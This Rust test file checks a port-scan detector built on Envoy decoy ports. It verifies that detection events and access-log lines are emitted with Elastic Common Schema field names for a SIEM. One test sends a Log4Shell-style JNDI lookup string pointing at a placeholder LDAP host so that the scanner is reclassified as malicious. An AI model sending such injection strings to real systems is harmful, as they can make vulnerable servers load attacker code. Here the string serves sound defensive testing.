//! What a SIEM gets: the access log in the names of ECS, and events out of Envoy's log.

use std::{process::Command, time::Duration};

use anyhow::{Context, ensure};
use real_envoy::{Result, Scratch, eventually, http::Source, workspace_root};
use serde_json::Value;

use crate::edge::{Edge, PATIENCE, knock, say, stranger};

/// The configuration for a SIEM, as it is published.
const FILE: &str = "siem.yaml";

/// 2026-09-21.
const START_NANOS: u64 = 1_790_000_000_000_000_000;

/// The events so far, taken out of Envoy's log by the command that stands in the configuration.
fn events(edge: &Edge) -> Result<Vec<Value>> {
    let scratch = Scratch::new()?;
    let log = scratch.write("envoy.log", &edge.envoy.log())?;
    let text = std::fs::read_to_string(workspace_root().join("envoy").join(FILE))?;
    let command = text.lines().find_map(|line| line.strip_prefix("#   sed "));
    let command = command.context("no command in the file")?;
    let command = format!("sed {command}").replace("envoy.log", &log.display().to_string());
    let output = Command::new("sh").arg("-c").arg(&command).output()?;
    ensure!(output.status.success(), "{command}: {output:?}");
    let lines = String::from_utf8(output.stdout)?;
    lines
        .lines()
        .map(|line| serde_json::from_str(line).with_context(|| line.to_owned()))
        .collect()
}

/// Waits for an event with this action about `address`.
fn wait_for_event(edge: &Edge, address: &str, action: &str) -> Result<Value> {
    eventually(&format!("{action} {address}"), PATIENCE, || {
        let found = events(edge).ok()?;
        found.into_iter().find(|event| {
            event["event"]["action"] == action && event["source"]["address"] == address
        })
    })
}

/// Lines of the access log about the client `address`, at least so many.
fn wait_for_lines(edge: &Edge, address: &str, least: usize) -> Result<Vec<Value>> {
    eventually(&format!("{least} lines of {address}"), PATIENCE, || {
        let log = edge.envoy.stdout();
        let lines = log
            .lines()
            .filter_map(|line| serde_json::from_str(line).ok());
        let his: Vec<Value> = lines
            .filter(|line: &Value| line["source"]["ip"] == address)
            .collect();
        (his.len() >= least).then_some(his)
    })
}

#[test]
fn events_tell_what_becomes_of_a_verdict() -> Result<()> {
    let edge = Edge::start_with(FILE, |builder| {
        let policy = r#""events": true, "verdict_ttl_secs": 60"#;
        let builder = builder.replace(r#""events": true"#, policy);
        builder.virtual_time(START_NANOS)
    })?;
    let clock = edge.envoy.clock().context("virtual time")?;
    let scanner = Source::loopback(92, 1, 1);
    for decoy in 0..6 {
        knock(&scanner, edge.decoy(decoy))?;
    }
    // Who does harm is malicious, whatever the risk.
    say(
        &scanner,
        edge.decoy(0),
        &[b"${jndi:ldap://x.example/a}\r\n"],
    )?;
    let flagged = wait_for_event(&edge, "127.92.1.1", "flagged")?;
    assert_eq!(flagged["event"]["kind"], "alert");
    assert_eq!(flagged["source"]["ip"], "127.92.1.1");
    assert_eq!(flagged["portscan"]["class"], "suspicious");
    assert!(flagged["portscan"]["reasons"][0].is_string(), "{flagged}");
    let changed = wait_for_event(&edge, "127.92.1.1", "class-changed")?;
    assert_eq!(changed["portscan"]["class_before"], "suspicious");
    assert_eq!(changed["portscan"]["class"], "malicious");
    clock.advance(Duration::from_secs(59))?;
    assert_eq!(events(&edge)?.len(), 2);
    // The keeper goes through all of the table in two seconds.
    clock.advance(Duration::from_secs(5))?;
    let expired = wait_for_event(&edge, "127.92.1.1", "expired")?;
    assert_eq!(expired["event"]["kind"], "event");
    assert_eq!(expired["portscan"]["class"], "malicious");
    let mut actions = Vec::new();
    for event in events(&edge)? {
        actions.push(
            event["event"]["action"]
                .as_str()
                .context("an action")?
                .to_owned(),
        );
    }
    assert_eq!(actions, ["flagged", "class-changed", "expired"]);
    Ok(())
}

#[test]
fn without_the_switch_there_are_words_and_no_events() -> Result<()> {
    let edge = Edge::start("edge.yaml")?;
    knock(&Source::loopback(92, 2, 1), edge.decoy(0))?;
    edge.envoy
        .wait_for_log("portscan: 127.92.2.1 flagged: kind=probe", PATIENCE)?;
    assert_eq!(events(&edge)?.len(), 0);
    Ok(())
}

#[test]
fn the_access_log_has_the_names_of_ecs() -> Result<()> {
    let edge = Edge::start(FILE)?;
    let scanner = Source::loopback(92, 3, 1);
    let client = Source::loopback(92, 3, 2);
    client.get(edge.service(), "/page?number=7")?;
    knock(&scanner, edge.decoy(0))?;
    edge.wait_for_tag(&scanner)?;
    scanner.send(edge.service(), &stranger())?;

    let page = wait_for_lines(&edge, "127.92.3.2", 1)?.remove(0);
    assert_eq!(page["http"]["request"]["method"], "GET");
    assert_eq!(page["http"]["response"]["status_code"], 200);
    assert_eq!(page["url"]["original"], "/page?number=7");
    assert_eq!(page["destination"]["port"], edge.service().port());
    assert!(page["envoy"]["duration_ms"].as_u64().is_some(), "{page}");
    assert!(page.get("portscan").is_none(), "{page}");

    let lines = wait_for_lines(&edge, "127.92.3.1", 3)?;
    let decoy = edge.decoy(0).port();
    let contact = lines
        .iter()
        .find(|line| line["destination"]["port"] == decoy);
    let contact = contact.context("no line of the decoy")?;
    assert_eq!(contact["network"]["transport"], "tcp");
    assert!(contact.get("url").is_none(), "{contact}");
    for line in &lines {
        let verdict = line["portscan"]["verdict"].as_str().unwrap_or_default();
        assert!(verdict.starts_with("kind=probe, risk="), "{line}");
        assert!(line["source"]["port"].is_u64(), "{line}");
    }
    check_with_python(&edge)
}

/// Reads every line as a SIEM does: with times, addresses and numbers of the right kind, and no field
/// that ECS does not have but ours.
fn check_with_python(edge: &Edge) -> Result<()> {
    const PROGRAM: &str = r#"
import datetime, ipaddress, json, sys
FIELDS = {"@timestamp", "ecs.version", "event.module", "event.kind", "event.category", "event.type",
    "envoy.duration_ms", "event.reason", "source.ip", "source.port", "source.bytes", "destination.ip",
    "destination.port", "destination.bytes", "network.transport", "http.request.method",
    "http.response.status_code", "url.original", "url.domain", "user_agent.original", "portscan.verdict"}
def flat(value, path=""):
    for key, inner in value.items():
        name = f"{path}.{key}" if path else key
        yield from flat(inner, name) if isinstance(inner, dict) else [(name, inner)]
lines = [dict(flat(json.loads(line))) for line in sys.stdin]
for line in lines:
    assert line.keys() <= FIELDS, line.keys() - FIELDS
    datetime.datetime.strptime(line["@timestamp"], "%Y-%m-%dT%H:%M:%S.%fZ")
    for name, value in line.items():
        if name.endswith(".ip"):
            ipaddress.ip_address(value)
        if name.endswith((".port", ".bytes", ".duration_ms", ".status_code")):
            assert isinstance(value, int), (name, value)
print(len(lines))
"#;
    let scratch = Scratch::new()?;
    let log = std::fs::File::open(scratch.write("access.ndjson", &edge.envoy.stdout())?)?;
    let output = Command::new("python3")
        .args(["-c", PROGRAM])
        .stdin(log)
        .output()?;
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    ensure!(output.status.success(), "{errors}");
    let read: usize = String::from_utf8(output.stdout)?.trim().parse()?;
    ensure!(read >= 4, "only {read} lines");
    Ok(())
}
